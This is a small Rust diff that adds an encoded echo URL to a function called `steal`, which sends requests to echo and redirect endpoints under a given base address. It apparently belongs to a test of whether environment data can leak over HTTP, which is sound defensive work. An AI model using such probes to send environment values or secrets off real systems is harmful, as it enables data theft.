@@ -420,6 +420,7 @@ fn read_env() -> Value {
 fn steal(base: &str) -> Value {
     echo(&[
         format!("{base}/echo"),
+        format!("{base}/echo?encoded=true"),
         http::Request::get(format!("{base}/redirect"))
             .query("to", format!("{base}/echo?via=redirect"))
             .url()
